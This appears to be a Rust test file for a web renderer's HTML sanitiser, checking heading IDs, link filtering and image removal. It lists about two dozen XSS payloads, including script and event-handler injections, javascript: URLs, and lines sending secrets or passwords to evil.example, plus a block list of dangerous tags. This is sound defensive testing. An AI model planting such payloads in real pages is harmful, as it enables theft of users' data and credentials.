use std::path::PathBuf;

use super::html;

fn md(text: &str) -> String {
    html(text, "markdown")
}

#[test]
fn headings_have_ids_like_github_and_each_once() {
    let page = md("## What is *a* `key`?\n\n### Äiti & co.\n\n## What is a key\n");
    for id in ["what-is-a-key", "äiti--co", "what-is-a-key-1"] {
        assert!(page.contains(&format!("id=\"{id}\"")), "{page}");
    }
}

#[test]
fn only_headings_have_ids_each_once_and_rendered_ones_first() {
    let page = md(
        "<h2 id=\"start\">x</h2>\n\n<h2 id=\"own\">y</h2>\n<h3 id=\"own\">y</h3>\n\n## start\n\n<p id=\"a\">z</p>\n\n[^1]\n\n[^1]: note\n",
    );
    assert_eq!(page.matches("id=\"").count(), 2, "{page}");
    assert!(page.contains("<h2 id=\"own\">y</h2>") && page.contains("<h2 id=\"start\">start</h2>"), "{page}");
    let page = md(
        "<form id=\"cookie\" name=\"cookie\"><input name=\"body\"></form>\n\n<a id=\"x\" name=\"y\" href=\"#z\">t</a>",
    );
    assert!(!page.contains("id=") && !page.contains("name=") && !page.contains("<form"), "{page}");
}

#[test]
fn pictures_become_their_text() {
    let page = md(
        "![A *cat*](https://example.org/c.png) and <img src='http://t.example/x.gif' alt=\"a <dog>\"> <img src=x onerror=alert(1)>",
    );
    assert!(page.contains("A cat") || page.contains("A <em>cat</em>"), "{page}");
    assert!(page.contains("a &lt;dog&gt;"), "{page}");
    assert!(!page.contains("<img") && !page.contains("example.org"), "{page}");
}

#[test]
fn code_math_tables_and_tasks_are_shown() {
    let page = md(
        "```sql\nselect 1 < 2\n```\n\nSum $a<b$ and\n\n$$x^2$$\n\n|a|b|\n|-|-|\n|1|~~2~~|\n\n- [x] done\n",
    );
    for part in [
        "<code class=\"language-sql\">select 1 &lt; 2",
        "<span class=\"math math-inline\">a&lt;b</span>",
        "<span class=\"math math-display\">x^2</span>",
        "<td>1</td>",
        "<del>2</del>",
        "☑ done",
    ] {
        assert!(page.contains(part), "{part} in {page}");
    }
}

#[test]
fn quotations_and_lists_that_stand_in_each_other_twenty_thousand_times_are_shown_at_once() {
    for signs in ["> ", ">", "- ", "1. ", "> - "] {
        let begun = std::time::Instant::now();
        let page = md(&format!("{}The end.\n\nAfter it.\n", signs.repeat(20_000)));
        assert!(begun.elapsed().as_secs() < 1, "{signs}: {:?}", begun.elapsed());
        assert!(page.contains("The end.") && page.contains("<p>After it.</p>"), "{signs}");
        assert!(page.matches("<blockquote>").count() + page.matches("<li>").count() <= 100, "{signs}");
        assert_eq!(page.matches("<blockquote>").count(), page.matches("</blockquote>").count(), "{signs}");
    }
}

#[test]
fn links_go_to_the_web_or_within_the_host_only() {
    let page = md(
        "[a](javascript:alert(1)) [b](data:text/html,x) [c](https://example.org) [d](/courses/x) <a href=\"vbscript:x\">e</a>",
    );
    for gone in ["javascript:", "data:", "vbscript:"] {
        assert!(!page.contains(gone), "{page}");
    }
    assert!(page.contains("href=\"https://example.org\" rel=\"noopener noreferrer\""), "{page}");
    assert!(page.contains("href=\"/courses/x\""), "{page}");
}

#[test]
fn html_pages_are_cleaned_and_keep_the_ids_of_headings() {
    let page = html(
        "<h2 id=key onclick=x>The <b>key</b></h2><script>alert(1)</script><p id=p>x</p><h2 id=key>b</h2>",
        "html",
    );
    assert_eq!(page, "<h2 id=\"key\">The <b>key</b></h2><p>x</p><h2>b</h2>");
}

/// One of each kind of attack on whoever shows a page.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\" &#106;avascript:alert(1)\">a</a>",
    "<a href=\"java\tscript:alert(1)\">a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">a</a>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](<java\nscript:alert(1)>)",
    "![a](https://evil.example/?q=secret) ![b][ref]\n\n[ref]: https://evil.example/?q=secret",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/><a href=x>a</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example'</style>",
    "<p style=\"background:url(https://evil.example/?q=secret)\" onmouseover=alert(1)>p</p>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<table background=javascript:alert(1)><tr><td>a</table>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
];

#[test]
fn known_attacks_do_nothing() {
    for input in ATTACKS {
        for page in [html(input, "markdown"), html(input, "html")] {
            assert_harmless(input, &page);
        }
    }
}

/// Inputs of a well-known sanitiser's tests, where they are there: none may leave anything that runs.
#[test]
fn the_attacks_of_another_sanitisers_tests_do_nothing() {
    let path = shared_data().join("strings/bleach_pairs.jsonl");
    let Ok(pairs) = std::fs::read_to_string(&path) else {
        eprintln!("skipped: {} is not there (SHARED_DATA says where the shared data is)", path.display());
        return;
    };
    let mut inputs = 0;
    for line in pairs.lines() {
        let pair: serde_json::Value = serde_json::from_str(line).unwrap();
        let input = pair["input"].as_str().unwrap();
        inputs += 1;
        for page in [html(input, "markdown"), html(input, "html")] {
            assert_harmless(input, &page);
        }
    }
    assert!(inputs > 50);
}

/// Looks at the tags of the output, not at its text.
fn assert_harmless(input: &str, page: &str) {
    let tag = regex::Regex::new(r"<[^>]*>").unwrap();
    for found in tag.find_iter(page) {
        let tag = found.as_str().to_ascii_lowercase();
        for bad in [
            "<script", "<style", "<img", "<iframe", "<object", "<embed", "<svg", "<math", "<link", "<meta",
            "<base", "<form",
        ] {
            assert!(!tag.starts_with(bad), "{input} gives {page}");
        }
        for bad in [" on", "javascript:", "data:", "style=", "src="] {
            assert!(!tag.contains(bad), "{input} gives {page}");
        }
    }
}

fn shared_data() -> PathBuf {
    std::env::var_os("SHARED_DATA")
        .map_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"), PathBuf::from)
}
